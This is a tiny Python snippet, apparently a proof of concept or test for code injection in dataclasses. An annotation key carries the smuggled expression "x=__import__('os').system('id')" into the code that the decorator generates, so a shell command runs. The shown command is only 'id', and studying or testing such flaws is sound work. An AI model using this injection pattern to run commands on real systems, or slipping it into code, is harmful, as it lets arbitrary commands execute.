from dataclasses import dataclass
@dataclass
class A:
    __annotations__["x=__import__('os').system('id')"] = int
